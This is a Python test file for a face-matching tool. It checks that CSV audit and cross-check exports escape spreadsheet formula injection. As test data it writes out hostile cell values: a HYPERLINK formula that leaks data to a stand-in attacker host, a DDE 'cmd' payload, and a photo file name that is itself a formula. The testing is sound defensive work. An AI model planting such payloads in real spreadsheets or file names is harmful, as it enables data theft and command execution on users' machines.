"""Issue 22, the library's part: CSV exports that no spreadsheet runs as formulas, logins that cannot be raced
or used to lock someone out, every family fact and reviewer note encrypted and bound to its case, the passphrase
kept out of every process environment, and uploads that cannot exhaust the server's memory.

Real index (the demo archive with its records, sface), real SQLite files, real child processes; no mocks.
"""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest

from facematch import csvcells, demo, report
from facematch.index import Index
from facematch.indexing import index_folder
from facematch.review import Review
from facematch.search import Searcher

PW = "correct horse battery"
FORMULA = '=HYPERLINK("https://evil.example/?leak","open me")'
FILE_FORMULA = '=HYPERLINK("evil.example","open me")'  # a file name has no slash


@pytest.fixture(scope="module")
def demo_index(tmp_path_factory) -> Path:
    """The demo archive with its records, plus a copy of one photo under a file name that is a formula (a leaked
    archive's file names are whatever the leaker chose)."""
    idx = tmp_path_factory.mktemp("hard") / "index"
    gallery = demo.build_gallery(idx / "photos")
    shutil.copyfile(gallery / "obama.jpg", gallery / f"{FILE_FORMULA}.jpg")
    index_folder(gallery, idx, "sface", workers=1, records_csv=demo.records_csv(), progress=False)
    return idx


def copy_of(idx: Path, dest: Path) -> Path:
    shutil.copytree(idx, dest, ignore=shutil.ignore_patterns("*-wal", "*-shm"))
    return dest


def formula_cells(text: str) -> list[str]:
    """Every cell of a CSV text that a spreadsheet would run as a formula."""
    rows = csv.reader(io.StringIO("\n".join(line for line in text.splitlines() if not line.startswith("# "))))
    return [c for r in rows for c in r if csvcells.cell(c) != c]


# -- 9: CSV formula injection ------------------------------------------------------------------------
def test_csv_cells_are_never_formulas():
    for payload in ("=1+2", "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1", FORMULA):
        assert csvcells.cell(payload) == "'" + payload
    for harmless in ("-0.1234", "+3", "12", "1e-5", "Qurban = brother", "", 3, -0.5, None):
        assert csvcells.cell(harmless) == harmless


def test_audit_and_cross_check_exports_write_no_formula(demo_index, tmp_path):
    from facematch.crosscheck import SAME, CrossCheck, export
    from facematch.crosscheck.run import link

    idx = copy_of(demo_index, tmp_path / "index")
    with Searcher(idx) as s:
        rv = Review(s.index)
        case = rv.create_case("=cmd|' /C calc'!A0", "@SUM(A1)", notes="-2+3")
        cands = s.search([s.detect_file(demo.query_photo()).pick()], k=11)
        target = next(c for c in cands if c.face.relpath.startswith("=HYPERLINK"))
        rv.decide(case.id, target, "confirm", "@SUM(A1)", note=FORMULA, shown=["+1+1", "-2-2"])
        rv.decide(case.id, cands[0], "reject", "Ayse", note="-0.5")  # a note that is a number stays as typed
        audit = report.audit_csv(rv, case.id)
    assert FORMULA.replace('"', '""') in audit  # the note is there, as text
    assert formula_cells(audit) == [], formula_cells(audit)
    assert "'@SUM(A1)" in audit and "'=HYPERLINK" in audit and ",-0.5," in audit

    link(idx, progress=False)
    with Index.open(idx) as index:
        cc = CrossCheck(index)
        pair = next(p for p in cc.pairs() + cc.duplicates() if "=HYPERLINK" in p.a.relpath + p.b.relpath)
        cc.decide(pair, SAME, "+reviewer", why=FORMULA)
        written = export(cc, tmp_path / "out")
    csvs = {name: path.read_text(encoding="utf-8") for name, path in written.items() if name.endswith(".csv")}
    assert FORMULA.replace('"', '""') in csvs["decisions.csv"]
    for name, text in csvs.items():
        assert formula_cells(text) == [], (name, formula_cells(text))
